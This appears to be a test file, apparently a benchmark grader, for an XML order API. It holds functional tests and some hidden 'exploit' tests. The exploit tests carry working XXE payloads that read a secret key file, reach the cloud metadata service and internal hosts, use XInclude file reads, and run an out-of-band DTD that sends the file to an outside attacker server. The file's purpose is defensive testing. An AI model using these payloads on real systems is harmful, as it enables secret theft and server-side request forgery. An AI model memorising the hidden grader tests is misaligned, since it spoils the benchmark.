import { exploit, functional, notice } from '#checks';
import { check, order, send, toldAbout, utf16 } from './orders.js';

const keyFile = 'file:///srv/data/secrets/warehouse.key';

functional('order-taken', 'An order is taken and can be looked at', async (t) => {
  const customer = t.random('Bakery');
  const note = t.random('ring twice');
  const answer = await send(t, order({ customer, note, deliverOn: '2031-04-02' }));
  const taken = answer.json();
  t.expect(answer.status === 201 && taken?.number > 0, 'the order to be taken with 201 and a number', answer);
  const seen = await t.app.get(`/api/orders/${taken.number}`);
  const { lines, ...rest } = seen.json() ?? {};
  t.expect(
    rest.customer === customer && rest.note === note && rest.deliverOn === '2031-04-02',
    'the customer, the day of delivery and the note',
    seen,
  );
  t.expect(
    lines?.length === 2 && lines[0].article === 'FLOUR-25' && lines[0].quantity === 3 && lines[1].quantity === 12,
    'both lines with article and quantity',
    seen,
  );
});

functional('special-characters', 'Character references, CDATA and quoted markup arrive as text', async (t) => {
  const customer = t.random('Fish');
  const answer = await send(
    t,
    order({
      customer: `${customer} &amp; Chips &#8211; K&#xF6;ln`,
      note: '<![CDATA[Please print <!DOCTYPE html> and <!ENTITY on the label]]> <!-- thanks -->',
    }),
  );
  const taken = answer.json();
  t.expect(answer.status === 201, 'the order to be taken with 201', answer);
  t.expect(taken?.customer === `${customer} & Chips – Köln`, 'the characters that the references stand for', answer);
  t.expect(taken.note === 'Please print <!DOCTYPE html> and <!ENTITY on the label', 'the quoted text, unchanged', answer);
});

functional('own-encodings', 'Orders in ISO-8859-1 and UTF-16 are read as they declare', async (t) => {
  const customer = `${t.random('Bäckerei')} Größe`;
  const bodies = [
    Buffer.from(order({ customer, encoding: 'ISO-8859-1' }), 'latin1'),
    utf16(order({ customer, encoding: 'UTF-16' })),
    Buffer.from(order({ customer, encoding: 'UTF-8' }), 'utf8'),
  ];
  for (const body of bodies) {
    const answer = await send(t, body);
    t.expect(answer.status === 201 && answer.json()?.customer === customer, `"${customer}" as the customer`, answer);
    const verdict = await check(t, body);
    t.expect(verdict.json()?.valid === true, 'the check to find the same order valid', verdict);
  }
});

functional('formatted-note', 'Formatting in a note is read as plain text', async (t) => {
  const word = t.random('fragile');
  const body = order({ note: `Handle as <b>${word}</b>, please` });
  const answer = await send(t, body);
  t.expect(answer.json()?.note === `Handle as ${word}, please`, 'the note without the markup', answer);
  const verdict = await check(t, body);
  t.expect(verdict.json()?.valid === true, 'the check to accept formatting in a note', verdict);
});

functional('check-explains', 'The check tells valid orders from others and says what is wrong', async (t) => {
  const good = await check(t, order());
  t.expect(good.status === 200 && good.json()?.valid === true && good.json().problems?.length === 0, 'a valid order', good);
  const wrong = await check(t, order({ quantity: 'a dozen', deliverOn: 'tomorrow' }));
  const { valid, problems } = wrong.json() ?? {};
  for (const value of ['a dozen', 'tomorrow']) {
    t.expect(
      wrong.status === 200 && valid === false && problems?.some((problem) => problem.includes(value)),
      `a problem that names the wrong value "${value}"`,
      wrong,
    );
  }
});

functional('nonsense-refused', 'What is no order is refused', async (t) => {
  for (const body of ['<order', '<invoice xmlns="urn:example:order"/>', order({ quantity: '-1' })]) {
    const answer = await send(t, body);
    t.expect(answer.status >= 400 && answer.status < 500, 'a 4xx', answer);
    const verdict = await check(t, body);
    t.expect(verdict.status >= 400 && verdict.status < 500 || verdict.json()?.valid === false, 'the check to say so too', verdict);
  }
});

functional('delivery-reported', 'A carrier reports a delivery', async (t) => {
  const answer = await t.app.post('/api/deliveries', {
    headers: { 'Content-Type': 'application/xml' },
    body: '<delivery><order>700001</order><parcels>2</parcels></delivery>',
  });
  t.expect(answer.status === 202, '202', answer);
});

const key = 'the key that signs everything for the warehouse';

exploit('file-in-note', 'An entity in the note of an order stands for a file', { finding: 'order-parser' }, async (t) => {
  const { answer, text } = await toldAbout(
    t,
    order({ doctype: `<!DOCTYPE order [<!ENTITY note SYSTEM "${keyFile}">]>`, note: '&note;' }),
  );
  if (text.includes(t.canary('warehouse-key'))) t.breach(`the answer holds ${key}`, answer);
});

exploit(
  'inside-address',
  'An entity of an order stands for an address that only the server can reach',
  { finding: 'order-parser' },
  async (t) => {
    const secret = t.random('role-credentials');
    const metadata = await t.listen(() => ({ body: secret }), { address: '169.254.169.254' });
    const { answer, text } = await toldAbout(
      t,
      order({ doctype: `<!DOCTYPE order [<!ENTITY who SYSTEM "${metadata.url}/latest/meta-data">]>`, customer: '&who;' }),
    );
    if (text.includes(secret)) t.breach("the answer holds what the cloud's metadata service told the server", answer);
    if (metadata.requests.length > 0) t.breach("the server asked the cloud's metadata service for the attacker", answer);
  },
);

exploit(
  'file-by-inclusion',
  'An order includes a file and needs no document type declaration for it',
  { finding: 'order-parser', hidden: true },
  async (t) => {
    const xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"';
    for (const parts of [
      { note: `<xi:include ${xi} parse="text" href="${keyFile}"/>` },
      { customer: `<xi:include ${xi} parse="text" href="${keyFile}"/>` },
    ]) {
      const { answer, text } = await toldAbout(t, order(parts));
      if (text.includes(t.canary('warehouse-key'))) t.breach(`the answer holds ${key}`, answer);
    }
    const inside = await t.listen(() => ({ body: 'x' }), { address: '10.0.0.5' });
    const { answer } = await toldAbout(t, order({ note: `<xi:include ${xi} parse="text" href="${inside.url}/admin"/>` }));
    if (inside.requests.length > 0) t.breach('the server asked a machine in its own network for the attacker', answer);
  },
);

exploit(
  'declaration-from-outside',
  'The document type declaration of an order is fetched from the attacker',
  { finding: 'order-parser', hidden: true },
  (t) => fetchedFromOutside(t, (body) => send(t, body)),
);

exploit(
  'order-in-another-encoding',
  'The same entity, in an order whose bytes look different',
  { finding: 'order-parser', hidden: true },
  async (t) => {
    const text = (encoding) =>
      order({ encoding, doctype: `<!DOCTYPE order [<!ENTITY note SYSTEM "${keyFile}">]>`, note: '&note;' });
    const bodies = [utf16(text('UTF-16')), utf16(text('UTF-16'), true), Buffer.from(text('ISO-8859-1'), 'latin1')];
    for (const body of bodies) {
      const seen = await toldAbout(t, body);
      if (seen.text.includes(t.canary('warehouse-key'))) t.breach(`the answer holds ${key}`, seen.answer);
    }
  },
);

exploit(
  'file-in-problem',
  'A file shows in the problems that the check of an order lists',
  { finding: 'order-check' },
  async (t) => {
    const doctype = `<!DOCTYPE order [<!ENTITY day SYSTEM "${keyFile}">]>`;
    const answer = await check(t, order({ doctype, deliverOn: '&day;' }));
    if (answer.text.includes(t.canary('warehouse-key'))) t.breach(`a problem quotes ${key}`, answer);
  },
);

exploit(
  'check-in-another-encoding',
  'The same file, in a document whose bytes look different',
  { finding: 'order-check', hidden: true },
  async (t) => {
    const text = order({
      encoding: 'UTF-16',
      doctype: `<!DOCTYPE order [<!ENTITY day SYSTEM "${keyFile}">]>`,
      deliverOn: '&day;',
    });
    for (const body of [utf16(text), utf16(text, true)]) {
      const answer = await check(t, body);
      if (answer.text.includes(t.canary('warehouse-key'))) t.breach(`a problem quotes ${key}`, answer);
    }
  },
);

exploit(
  'file-sent-away',
  'The check of an order sends a file to the attacker',
  { finding: 'order-check', hidden: true },
  (t) => fetchedFromOutside(t, (body) => check(t, body)),
);

/** Sends documents whose declaration is fetched from a server of the attacker and makes the parser report a file to it. */
async function fetchedFromOutside(t, tell) {
  const outside = await t.listen(
    ({ path }) => ({
      headers: { 'Content-Type': 'application/xml-dtd' },
      body: path.startsWith('/order.dtd')
        ? `<!ENTITY % file SYSTEM "${keyFile}">\n<!ENTITY % all "<!ENTITY &#37; tell SYSTEM '${outside.url}/found?%file;'>">\n%all;\n%tell;\n`
        : '',
    }),
    { address: '93.184.216.34' },
  );
  const doctypes = [
    `<!DOCTYPE order SYSTEM "${outside.url}/order.dtd">`,
    `<!DOCTYPE order [<!ENTITY % more SYSTEM "${outside.url}/order.dtd"> %more;]>`,
  ];
  for (const doctype of doctypes) {
    const answer = await tell(order({ doctype }));
    if (outside.requests.some(({ path }) => path.includes(t.canary('warehouse-key')))) {
      t.breach(`${key} was sent to the attacker's server`, answer);
    }
    if (outside.requests.length > 0) t.breach("the server fetched a declaration from the attacker's server", answer);
  }
}

notice('order-parser', (t, { request, response }) => {
  if (request.path.startsWith('/api/orders/check')) return;
  return response.text.includes(t.canary('warehouse-key')) && 'the key that signs for the warehouse is in the response';
});

notice('order-check', (t, { request, response }) => {
  if (!request.path.startsWith('/api/orders/check')) return;
  return response.text.includes(t.canary('warehouse-key')) && 'the key that signs for the warehouse is in the list of problems';
});
